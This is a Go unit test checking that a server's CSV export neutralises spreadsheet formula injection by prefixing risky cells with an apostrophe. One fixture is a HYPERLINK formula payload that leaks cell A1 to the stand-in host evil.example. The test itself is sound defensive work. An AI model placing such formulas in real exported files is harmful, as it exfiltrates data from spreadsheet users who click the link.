package server

import (
	"strings"
	"testing"
)

// A name written as a formula comes out of the CSV export as text, never as
// a live formula; numbers keep their sign.
func TestCSVCellsNeverBecomeFormulas(t *testing.T) {
	t.Parallel()
	minus := -12.5
	rows := [][]cell{{
		{text: `=HYPERLINK("http://evil.example/?leak="&A1,"Нажмите")`},
		{text: "+7 (391) 000-00-00"}, {text: "-1"}, {text: "@SUM(A1:A9)"}, {text: "\t=1+1"},
		{text: "МАОУ СШ № 150"}, {num: &minus},
	}}
	b, err := writeCSV(rows)
	if err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSpace(string(b)), "\n")
	got := lines[len(lines)-1]
	want := `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Нажмите"")";'+7 (391) 000-00-00;'-1;'@SUM(A1:A9);'` + "\t" + `=1+1;МАОУ СШ № 150;-12,5`
	if got != want {
		t.Errorf("got  %s\nwant %s", got, want)
	}
}
